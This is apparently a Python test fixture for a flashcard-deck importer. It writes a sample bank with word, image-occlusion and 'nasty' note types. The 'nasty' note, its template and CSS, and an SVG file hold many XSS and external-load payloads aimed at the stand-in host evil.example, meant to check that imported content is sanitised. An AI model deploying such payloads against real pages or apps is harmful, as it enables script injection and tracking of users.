"""A bank as an import makes it: notes of several types, a picture, a sound, and one nasty note."""

from __future__ import annotations

import hashlib
import struct
import zlib
from typing import TYPE_CHECKING
from typing import Any

from tests.strategies import to_yaml

if TYPE_CHECKING:
    from pathlib import Path

BANK = "deck"
STOCK = (
    ".card { font-family: arial; font-size: 20px; text-align: center; color: black; "
    "background-color: white; }"
)
NIGHT = STOCK + ".nightMode .word { color: lightblue; } .word { color: darkblue; font-size: 2em; }"
EVIL = "http://evil.example"
NASTY = f"""
<script>document.title = 'ran'; fetch('{EVIL}/1')</script>
<img src=x onerror="document.title='ran'; fetch('{EVIL}/2')">
<a href="javascript:document.title='ran'" id=link>press</a>
<a href="{EVIL}/3" id=away>go</a>
<meta http-equiv=refresh content="0;url={EVIL}/4">
<form action="{EVIL}/5"><button id=send>send</button>
<input autofocus onfocus="document.title='ran'"></form>
<iframe src="{EVIL}/6"></iframe><iframe srcdoc="<script>top.document.title='ran'</script>"></iframe>
<style>@import url({EVIL}/7); body {{ background: url({EVIL}/8); }}
@font-face {{ font-family: f; src: url({EVIL}/9); }} * {{ font-family: f; }}</style>
<base href="{EVIL}/10/"><object data="{EVIL}/11"></object><embed src="{EVIL}/12">
<svg onload="document.title='ran'"><script>document.title='ran'</script><image href="{EVIL}/13"/>
<use href="{EVIL}/14#a"/><foreignObject><iframe src="{EVIL}/15"></iframe></foreignObject></svg>
<link rel=import href="{EVIL}/16"><link rel=prefetch href="{EVIL}/17">
<link rel=stylesheet href="{EVIL}/18">
<link rel=preconnect href="{EVIL}"><link rel=dns-prefetch href="//evil.example">
<img src="{EVIL}/19"><img srcset="{EVIL}/20 1x">
<video poster="{EVIL}/21" src="{EVIL}/22" autoplay></video>
<audio src="{EVIL}/23" autoplay></audio><picture><source srcset="{EVIL}/24"></picture>
<div style="background: url({EVIL}/25)" onmouseover="document.title='ran'">styled</div>
<table background="{EVIL}/26"><tr><td>cell</td></tr></table>
<math><mtext><img src=x onerror="document.title='ran'"></mtext></math>
[sound:{EVIL}/27.mp3]<p class=end>the end of the nasty note</p>
"""
NOTE_TYPES: dict[str, dict[str, Any]] = {
    "words": {
        "id": "1", "name": "Words", "fields": ["Word", "Meaning", "Sound"], "css": NIGHT,
        "templates": [
            {"name": "Card 1", "front": '<div class="word">{{Word}}</div>{{Sound}}',
             "back": "{{FrontSide}}<hr id=answer>{{Meaning}}"},
            {"name": "Card 2", "front": "{{#Meaning}}{{Meaning}}{{type:Word}}{{/Meaning}}",
             "back": "{{Meaning}}<hr id=answer>{{type:Word}}"},
        ],
    },
    "nasty": {
        "id": "2", "name": "Nasty", "fields": ["Front"],
        "css": f"@import url({EVIL}/30); body {{ background: url({EVIL}/31) }}</style><script>"
        "document.title = 'ran'</script>",
        "templates": [{"name": "<script>",
                       "front": "{{Front}}<script>top.document.title='ran'</script>",
                       "back": "{{FrontSide}}back"}],
    },
    "image-occlusion": {
        "id": "3", "name": "Image Occlusion", "is_cloze": "true", "occlusion": "true",
        "fields": ["Occlusion", "Image", "Header"],
        "css": "#image-occlusion-canvas { --inactive-shape-color: #ffeba2; } " + STOCK,
        "templates": [{
            "name": "Image Occlusion",
            "front": "{{#Header}}<div>{{Header}}</div>{{/Header}}"
            '<div style="display: none">{{cloze:Occlusion}}</div><div id="err"></div>'
            '<div id="image-occlusion-container">{{Image}}'
            '<canvas id="image-occlusion-canvas"></canvas></div>'
            "<script>anki.imageOcclusion.setup();</script>",
            "back": "{{#Header}}<div>{{Header}}</div>{{/Header}}"
            '<div style="display: none">{{cloze:Occlusion}}</div><div id="err"></div>'
            '<div id="image-occlusion-container">{{Image}}'
            '<canvas id="image-occlusion-canvas"></canvas></div>'
            "<script>anki.imageOcclusion.setup();</script>"
            '<div><button id="toggle">Toggle Masks</button></div>',
        }],
    },
}  # fmt: skip
MASKS = (
    "{{c1::image-occlusion:rect:left=.05:top=.1:width=.4:height=.3:oi=1}}<br>"
    "{{c2::image-occlusion:ellipse:left=.55:top=.15:rx=.15:ry=.1:oi=1}}<br>"
    "{{c3::image-occlusion:polygon:left=.1:top=.6:points=.1,.6 .4,.6 .25,.9:oi=1}}<br>"
    "{{c0::image-occlusion:text:left=.5:top=.6:text=a label:scale=1:fs=0.05}}"
)


def picture(width: int = 640, height: int = 400) -> bytes:
    """Return a PNG with two shades of blue."""

    def chunk(name: bytes, data: bytes) -> bytes:
        check = zlib.crc32(name + data)
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", check)

    shades = ((70, 110, 170), (150, 180, 215))
    rows = b"".join(
        b"\0" + b"".join(bytes(shades[(x // 40 + y // 40) % 2]) for x in range(width))
        for y in range(height)
    )
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )  # fmt: skip


def hashed(data: bytes, ending: str) -> str:
    """Return the name of a media file."""
    return f"{hashlib.sha256(data).hexdigest()[:32]}.{ending}"


PICTURE = picture()
SOUND = b"ID3" + bytes(2000)
DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg"><script>document.title="ran"</script></svg>'
FILES = {
    "map.png": (hashed(PICTURE, "png"), PICTURE),
    "say it.mp3": (hashed(SOUND, "mp3"), SOUND),
    "drawing.svg": (hashed(DRAWING, "svg"), DRAWING),
}


def note(
    name: str, kind: str, fields: dict[str, str], cards: tuple[int, ...] = (1,)
) -> dict[str, Any]:
    """Return a note as a topic file has it."""
    return {"id": name, "kind": "note", "note_type": kind, "fields": fields,
            "cards": list(map(str, cards))}  # fmt: skip


NOTES = [
    note(
        "word",
        "words",
        {"Word": "川", "Meaning": "<b>river</b>", "Sound": "[sound:say it.mp3]"},
        (1, 2),
    ),
    note("nasty", "nasty", {"Front": NASTY}),
    note(
        "masks",
        "image-occlusion",
        {"Occlusion": MASKS, "Image": '<img src="map.png">', "Header": "A map"},
        (1, 2, 3),
    ),
]


def write(
    folder: Path,
    items: list[dict[str, Any]] | None = None,
    note_types: dict[str, dict[str, Any]] | None = None,
) -> Path:
    """Write the bank; return its folder."""
    (folder / "note_types").mkdir(parents=True, exist_ok=True)
    (folder / "media").mkdir(exist_ok=True)
    head = {"format": "1", "id": BANK, "title": "A deck", "topics": [{"id": "all", "title": "All"}]}
    (folder / "bank.yaml").write_text(to_yaml(head), encoding="utf-8")
    rows = NOTES if items is None else items
    text = "topic: all\nitems:\n" + "".join(f"  - {to_yaml(row)}\n" for row in rows)
    (folder / "01-all.yaml").write_text(text, encoding="utf-8")
    for slug, kind in (NOTE_TYPES if note_types is None else note_types).items():
        (folder / "note_types" / f"{slug}.yaml").write_text(to_yaml(kind), encoding="utf-8")
    for name, data in FILES.values():
        (folder / "media" / name).write_bytes(data)
    names = {name: file for name, (file, _) in FILES.items()}
    (folder / "media.yaml").write_text(to_yaml(names), encoding="utf-8")
    return folder
